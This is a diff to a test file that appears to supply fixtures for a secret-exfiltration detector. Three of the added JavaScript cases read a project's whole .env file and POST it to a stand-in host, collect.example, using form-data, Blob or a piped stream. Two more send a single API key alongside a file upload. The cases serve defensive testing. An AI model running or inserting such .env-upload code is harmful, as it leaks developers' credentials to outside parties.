@@ -175,7 +175,59 @@ wholeText.push([
   ),
 ]);
 
+/** the file itself rather than its text: a stream or Blob appended to a form, a stream piped out */
+wholeText.push(
+  [
+    'cjs-form-data-read-stream',
+    'upload.js',
+    lines(
+      "const fs = require('fs'); const path = require('path'); const FormData = require('form-data'); const axios = require('axios');",
+      'const form = new FormData();',
+      "form.append('f', fs.createReadStream(path.join(__dirname, '.env')));",
+      "axios.post('https://collect.example/u', form, { headers: form.getHeaders() });",
+    ),
+  ],
+  [
+    'esm-formdata-blob',
+    'upload.mjs',
+    lines(
+      "import fs from 'node:fs'; import path from 'node:path';",
+      'const form = new FormData();',
+      "form.append('f', new Blob([fs.readFileSync(path.join(import.meta.dirname, '.env'))]), 'cfg.txt');",
+      "await fetch('https://collect.example/u', { method: 'POST', body: form });",
+    ),
+  ],
+  [
+    'cjs-read-stream-piped-to-request',
+    'upload.js',
+    lines(
+      "const fs = require('fs'); const path = require('path'); const https = require('https');",
+      "const req = https.request('https://collect.example/u', { method: 'POST' });",
+      "fs.createReadStream(path.join(__dirname, '.env')).pipe(req);",
+    ),
+  ],
+);
+
 const oneKey: Case[] = [
+  [
+    'esm-formdata-photo-and-key',
+    'upload.mjs',
+    lines(
+      "import fs from 'node:fs'; import path from 'node:path';",
+      "const blob = new Blob([fs.readFileSync(path.join(import.meta.dirname, 'assets', 'photo.png'))]);",
+      "const form = new FormData(); form.append('file', blob, 'photo.png'); form.append('key', process.env.WIDGETS_KEY);",
+      "await fetch('https://api.widgets.example/v1/upload', { method: 'POST', body: form });",
+    ),
+  ],
+  [
+    'cjs-form-data-stream-upload',
+    'upload.js',
+    lines(
+      "const fs = require('fs'); const FormData = require('form-data');",
+      "const form = new FormData(); form.append('file', fs.createReadStream(process.argv[2])); form.append('token', process.env.WIDGETS_TOKEN);",
+      "form.submit('https://api.widgets.example/v1/upload', (err, res) => console.log(err || res.statusCode));",
+    ),
+  ],
   [
     'esm-new-url-dotenv-parse-one-key',
     'sync.mjs',
